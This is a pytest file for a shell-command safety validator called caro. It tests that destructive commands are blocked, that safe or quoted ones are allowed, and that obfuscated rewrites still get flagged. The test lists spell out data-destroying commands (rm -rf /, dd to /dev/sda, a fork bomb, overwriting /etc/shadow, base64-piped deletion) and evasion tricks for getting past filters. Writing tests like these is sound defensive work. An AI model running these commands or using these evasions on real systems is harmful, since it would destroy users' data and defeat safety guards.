"""The validator against the public corpora, and invariants that hold under rewriting.

Nothing here runs a command: every line is only read by caro's validator.
"""

from __future__ import annotations

import base64
from collections import Counter

import pytest

from caro.safety import check
from caro.safety.rules import RISK_ORDER
from tests.safety_corpora import BENCH, CORPORA, DISAGREEMENTS, load

pytestmark = pytest.mark.skipif(not BENCH.is_dir(), reason="the public corpora (../shared/bench/safety) are not here")

# The issue's targets: dangerous rows allowed after the listed disagreements, and no safe row blocked.
ALLOWED_AT_MOST = {"dcg": 10, "shellfirm": 60}


@pytest.mark.parametrize("name", CORPORA)
def test_no_safe_row_is_blocked(name):
    blocked = [r["cmd"] for r in load(name) if r["label"] == "safe" and check(r["cmd"]).action == "block"]
    assert blocked == []


@pytest.mark.parametrize("name", CORPORA)
def test_dangerous_rows_allowed_are_only_the_listed_disagreements(name):
    col = CORPORA.index(name)
    seen: Counter = Counter()
    unexplained = []
    for r in load(name):
        if r["label"] != "dangerous" or check(r["cmd"]).action != "allow":
            continue
        hits = [d.name for d in DISAGREEMENTS if d.matches(r["cmd"])]
        if len(hits) == 1:
            seen[hits[0]] += 1
        else:
            unexplained.append((r["cmd"], hits))
    assert len(unexplained) <= ALLOWED_AT_MOST[name], unexplained
    # a category's size is pinned, so a regression cannot hide inside one
    assert {d.name: seen[d.name] for d in DISAGREEMENTS} == {d.name: d.counts[col] for d in DISAGREEMENTS}


# -- invariants: a rewritten critical command is never judged lower than the plain one -------

SEEDS = [
    "rm -rf /",
    "rm -rf ~",
    "chmod -R 777 /",
    "dd if=/dev/zero of=/dev/sda",
    "chown -R nobody /",
    "find / -delete",
    "mv /etc /tmp/etc",
]


def _ansi_c(word: str) -> str:
    return "$'" + "".join(f"\\x{ord(c):02x}" for c in word) + "'"


def rewrites(seed: str) -> list[str]:
    name, _, rest = seed.partition(" ")
    words = seed.split()
    q = seed.replace("'", "'\\''")
    out = [
        f"'{name}' {rest}",
        f'"{name}" {rest}',
        f"\\{name} {rest}",
        name[0] + "''" + name[1:] + " " + rest,
        "{" + ",".join(words) + "}",
        "${IFS}".join(words),
        f"{_ansi_c(name)} {rest}",
        f"x={name}; $x {rest}",
        f'set -- {seed}; "$@"',
        f"X='{rest}'; {name} $X",
        f"sudo env A=1 nice -n 5 nohup timeout 5 {seed}",
        "sudo " * 40 + seed,
        f"echo '{q}' | sh",
        f"printf '%s\\n' '{q}' | bash",
        f"eval '{q}'",
        f"eval \"$(echo '{q}')\"",
        f"sh -c '{q}'",
        f"bash -c -- '{q}'",
        f"sh -c '{name} \"$@\"' _ {rest}",
        f"cat <<EOF | sh\n{seed}\nEOF",
        f"sh <<< '{q}'",
        f"watch -n 1 '{q}'",
        f"echo {base64.b64encode(seed.encode()).decode()} | base64 -d | sh",
        f"python3 -c 'import os; os.system(\"{seed}\")'",
        f'perl -e \'system "{name}", ' + ", ".join(f'"{w}"' for w in words[1:]) + "'",
        f"awk 'BEGIN{{system(\"{seed}\")}}'",
        f"function f {{ {seed}; }}; f",
        f"f() {{ {seed}; }}; f",
        f"true && {seed}",
        f"( {seed} )",
        f"{{ {seed}; }}",
        f"if true; then {seed}; fi",
        f"echo hi # \n{seed}",
        f"echo `{seed}`",
        f"echo $({seed})",
        f"X=1 {seed} 2>/dev/null",
    ]
    return out


@pytest.mark.parametrize("seed", SEEDS)
def test_rewritten_critical_commands_stay_critical_or_are_high(seed):
    base = check(seed)
    assert base.risk == "critical", (seed, base.reasons)
    for variant in rewrites(seed):
        v = check(variant)
        # spelled plainly enough to be read: critical; opaque: at least high (fail closed)
        assert RISK_ORDER[v.risk] >= RISK_ORDER["high"], (variant, v.risk, v.reasons)
        assert v.action != "allow", variant


@pytest.mark.parametrize("seed", SEEDS)
def test_rewrites_that_can_be_read_are_blocked(seed):
    readable = [r for r in rewrites(seed) if "`" not in r and "$(" not in r]
    not_blocked = [r for r in readable if check(r).action != "block"]
    assert not_blocked == []


@pytest.mark.parametrize("seed", SEEDS + [":(){ :|:& };:"])
def test_the_same_text_as_quoted_data_is_not_blocked(seed):
    q = seed.replace("'", "'\\''")
    for data in (
        f"echo '{q}'",
        f"grep -F '{q}' notes.txt",
        f"git commit -m 'docs: never run {q}'",
        f"printf '%s\\n' '{q}' >> dangerous-commands.txt",
    ):
        v = check(data)
        assert RISK_ORDER[v.risk] <= RISK_ORDER["moderate"], (data, v.reasons)


# -- the classes of miss the issue lists, each as its own case --------------------------------

MUST_BLOCK_NOW = [
    "rm -rf${IFS}/",
    "{rm,-rf,/}",
    "$'\\x72\\x6d' -rf /",
    "rm -rf /[a-z]*",
    "x=rm; $x -rf /",
    "echo 'rm -rf /' | sh",
    "cat <<EOF | sh\nrm -rf /\nEOF",
    'sh -c "$(cat <<EOF\nrm -rf /\nEOF\n)"',
    "awk 'BEGIN{system(\"rm -rf /\")}'",
    'perl -e \'system "rm","-rf","/"\'',
    "watch -n 1 'rm -rf /'",
    "bash -c -- 'rm -rf /'",
    "X=1 > /etc/passwd",
    "env > /etc/shadow",
    "exec > /dev/sda",
    "function f { rm -rf /; }; f",
    "chown -R nobody /./",
    "find /. -delete",
    "rm --rec --force /",
    "cd / && rm -rf *",
    "cd; rm -rf *",
    "find / -name '*' -delete",
    "find / -type f -exec rm -f {} \\;",
    "chmod 000 /",
    "truncate -s 0 /bin/bash",
    "chmod 777 /etc/shadow",
    "cp /dev/zero /dev/sda",
    "pkill -9 -u root",
    "cryptsetup luksFormat /dev/sda1",
    "find / | xargs rm -rf",
    "sh -c 'rm -rf \"$1\"' _ /",
    'eval "$(echo cm0gLXJmIC8= | base64 -d)"',
    "coproc x { rm -rf /; }",
    "rm -rf '' /",
]
MUST_WARN_NOW = [
    "history | bash",
    "history|sh",
    'eval "$(curl -s http://x)"',
    "git push origin :main",
    "git checkout -- ./",
    "git update-ref -d refs/heads/main",
    "docker compose -f custom.yml down -v",
    "aws s3 sync /empty s3://bucket --delete",
    "find . -type d -exec rm -r {} +",
    "nvme format /dev/nvme0n1",
    "git reset \u2010\u2010hard",
    "$(cat cmd.txt) /",
    "cat script.txt | sh",
    "kubectl delete pod web-1",
    "sudo tee /etc/motd",
]
MUST_STAY_ALLOWED = [
    "echo ':(){ :|:& };:'",
    "git commit -m ':(){ :|:& };:'",
    "kill -0 1",
    "kill -HUP 1",
    "chmod -R go-rwx ~/.ssh",
    "chown -R $USER ~/.ssh",
    "mv ~/.config ~/.config.bak",
    "echo hi # ; rm -rf /",
    "grep 'rm -rf /' notes.txt",
    'for f in *.log; do gzip "$f"; done',
    'X=$(date +%F); cp a "b-$X"',
    "git restore --staged .",
    "kubectl apply -f deploy.yaml --force --dry-run=client",
    "rsync -an --delete src/ dst/",
]


@pytest.mark.parametrize("cmd", MUST_BLOCK_NOW)
def test_issue_misses_are_blocked(cmd):
    v = check(cmd)
    assert v.action == "block", (cmd, v.risk, v.reasons)


@pytest.mark.parametrize("cmd", MUST_WARN_NOW)
def test_issue_misses_are_warned(cmd):
    v = check(cmd)
    assert v.action in ("warn", "block"), (cmd, v.risk, v.reasons)


@pytest.mark.parametrize("cmd", MUST_STAY_ALLOWED)
def test_false_blocks_are_gone(cmd):
    v = check(cmd)
    assert v.action == "allow", (cmd, v.risk, v.reasons)


def test_shells_differ_where_the_shells_differ():
    # interactive zsh has no comments by default: the `rm` runs
    assert check("true; # ; rm -rf ~", shell="bash").action == "allow"
    assert check("true; # ; rm -rf ~", shell="zsh").action == "block"
    # zsh does not re-split unquoted values; bash does
    assert check("rm${IFS}-rf${IFS}/", shell="bash").risk == "critical"
    assert check("rm${IFS}-rf${IFS}/", shell="zsh").action != "allow"
    # fish: ( ) is command substitution, blocks close with `end`
    assert check("rm -rf (echo /)", shell="fish").action != "allow"
    assert check("begin; rm -rf ~; end", shell="fish").action == "block"
    assert check("for f in *.log; gzip $f; end", shell="fish").action == "allow"
    assert check("for f in *.log; gzip $f; end", shell="bash").action == "warn"  # not bash
    assert check("set x rm; $x -rf /", shell="fish").action == "block"
    # zsh: =rm is rm, glob qualifiers are part of the pattern
    assert check("=rm -rf /", shell="zsh").action == "block"
    assert check("ls *(.)", shell="zsh").action == "allow"


def test_unreadable_lines_are_at_least_high():
    for cmd in ("if then fi ((", "echo 'unclosed", "rm -rf $(", "for in do"):
        v = check(cmd)
        assert RISK_ORDER[v.risk] >= RISK_ORDER["high"], (cmd, v.reasons)


def test_cost_is_bounded():
    # the old fork-bomb regex took minutes on this; now the budget caps any line
    v = check("a(){" * 1024)
    assert v.action != "allow"
    v = check("echo " + "$(" * 500 + "x" + ")" * 500)
    assert v.action != "allow"
